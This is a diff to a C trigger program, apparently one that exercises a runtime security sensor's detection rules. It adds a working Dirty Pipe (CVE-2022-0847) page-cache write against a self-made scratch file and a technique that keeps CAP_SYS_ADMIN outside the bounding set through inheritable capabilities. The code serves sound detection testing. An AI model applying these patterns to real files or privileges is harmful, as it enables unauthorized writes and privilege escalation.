@@ -20,6 +20,7 @@
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
+#include <linux/capability.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -201,6 +202,131 @@ int main(int argc, char **argv)
 			fflush(stdout);
 			sleep(3);
 		}
+	} else if (!strcmp(t, "inh_beyond_bset")) {
+		/* SKD-RUN-042's effect by a legitimate kernel path: keep CAP_SYS_ADMIN in the
+		 * inheritable set, drop it from the bounding, permitted and effective sets, fork
+		 * (the sensor's baseline becomes the lowered sets), and let the child, root, execute
+		 * a plain file: a root exec gives permitted = bounding | inheritable, so the child
+		 * holds a capability outside the bounding set it had, without set*id or a setuid
+		 * file. Needs CAP_SETPCAP and no_new_privs off; changes only this process tree. */
+		struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
+		struct __user_cap_data_struct d[2];
+		const int cap = CAP_SYS_ADMIN;
+		r = syscall(SYS_capget, &h, d);
+		if (r == 0) {
+			d[cap / 32].inheritable |= 1u << (cap % 32);
+			r = syscall(SYS_capset, &h, d);
+		}
+		if (r == 0)
+			r = prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
+		if (r == 0) {
+			d[cap / 32].permitted &= ~(1u << (cap % 32));
+			d[cap / 32].effective &= ~(1u << (cap % 32));
+			r = syscall(SYS_capset, &h, d);
+		}
+		if (r == 0) {
+			pid_t p = fork();
+			if (p == 0) {
+				execl("/proc/self/exe", "skd-trigger", "show_caps", (char *)NULL);
+				_exit(127);
+			}
+			int st = 0;
+			waitpid(p, &st, 0);
+			r = WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1;
+		}
+	} else if (!strcmp(t, "dirty_pipe") && argc > 2) {
+		/* The Dirty Pipe pattern (CVE-2022-0847) against a scratch file ARG this trigger makes
+		 * (root-owned, mode 0444): a child that cannot write the file (it drops to uid 65534
+		 * when root) opens it read-only, fills and drains a pipe (every slot then once held a
+		 * mergeable buffer), splices the file's first byte into the pipe and writes "X" into
+		 * the pipe. A fixed kernel gives the write a buffer of its own; a vulnerable one writes
+		 * it into the file's page cache at offset 1. Prints which, then removes the file. */
+		static const char orig[] = "stockade dirty pipe scratch\n";
+		static char buf[4096];
+		int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0444);
+		if (fd < 0 || write(fd, orig, sizeof(orig) - 1) != sizeof(orig) - 1) {
+			perror("dirty_pipe: scratch file");
+			return 1;
+		}
+		close(fd);
+		pid_t p = fork();
+		if (p == 0) {
+			if (getuid() == 0 &&
+			    (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534)))
+				_exit(3);
+			if (open(argv[2], O_WRONLY | O_CLOEXEC) >= 0)
+				_exit(4); /* the file must be one this process cannot write */
+			int rfd = open(argv[2], O_RDONLY | O_CLOEXEC);
+			int pp[2];
+			if (rfd < 0 || pipe2(pp, O_CLOEXEC))
+				_exit(5);
+			long left = fcntl(pp[1], F_GETPIPE_SZ);
+			while (left > 0) {
+				long n = write(pp[1], buf, left < (long)sizeof(buf) ? left : (long)sizeof(buf));
+				if (n <= 0)
+					_exit(6);
+				left -= n;
+			}
+			left = fcntl(pp[1], F_GETPIPE_SZ);
+			while (left > 0) {
+				long n = read(pp[0], buf, sizeof(buf));
+				if (n <= 0)
+					_exit(6);
+				left -= n;
+			}
+			loff_t off = 0;
+			if (splice(rfd, &off, pp[1], NULL, 1, 0) != 1)
+				_exit(7);
+			_exit(write(pp[1], "X", 1) == 1 ? 0 : 8);
+		}
+		int st = 0;
+		waitpid(p, &st, 0);
+		char back[sizeof(orig)] = { 0 };
+		fd = open(argv[2], O_RDONLY | O_CLOEXEC);
+		long n = fd < 0 ? -1 : read(fd, back, sizeof(back) - 1);
+		if (fd >= 0)
+			close(fd);
+		unlink(argv[2]);
+		if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) {
+			printf("dirty_pipe: the pattern did not run (child status %d)\n", st);
+			return 1;
+		}
+		printf("dirty_pipe: spliced and wrote; the file is %s\n",
+		       n == (long)sizeof(orig) - 1 && !memcmp(back, orig, n) ?
+			       "unchanged" :
+			       "CHANGED (this kernel writes into the page cache)");
+		return 0;
+	} else if (!strcmp(t, "splice_relay") && argc > 2) {
+		/* What a relay does with splice (a negative of SKD-RUN-044): splice the first bytes
+		 * of file ARG into a pipe, read them out of the pipe, then write into the now empty
+		 * pipe and read that back. No write meets a page-cache buffer. */
+		char b[64];
+		int rfd = open(argv[2], O_RDONLY | O_CLOEXEC), pp[2];
+		r = rfd < 0 || pipe2(pp, O_CLOEXEC) ? -1 : 0;
+		loff_t off = 0;
+		if (r == 0 && splice(rfd, &off, pp[1], NULL, 8, 0) <= 0)
+			r = -1;
+		if (r == 0 && read(pp[0], b, sizeof(b)) <= 0)
+			r = -1;
+		if (r == 0 && (write(pp[1], "relay", 5) != 5 || read(pp[0], b, sizeof(b)) != 5))
+			r = -1;
+	} else if (!strcmp(t, "show_caps")) {
+		/* prints CapPrm and CapBnd; exits 0 when CAP_SYS_ADMIN is permitted but not bounded */
+		FILE *f = fopen("/proc/self/status", "re");
+		char line[256];
+		unsigned long long prm = 0, bnd = 0;
+		while (f && fgets(line, sizeof(line), f)) {
+			if (!strncmp(line, "CapPrm:", 7))
+				prm = strtoull(line + 7, NULL, 16);
+			else if (!strncmp(line, "CapBnd:", 7))
+				bnd = strtoull(line + 7, NULL, 16);
+		}
+		if (f)
+			fclose(f);
+		int beyond = (prm >> CAP_SYS_ADMIN & 1) && !(bnd >> CAP_SYS_ADMIN & 1);
+		printf("CapPrm %llx CapBnd %llx: %s\n", prm, bnd,
+		       beyond ? "beyond the bounding set" : "within the bounding set");
+		return beyond ? 0 : 1;
 	} else if (!strcmp(t, "noop")) {
 		return 0;
 	} else {
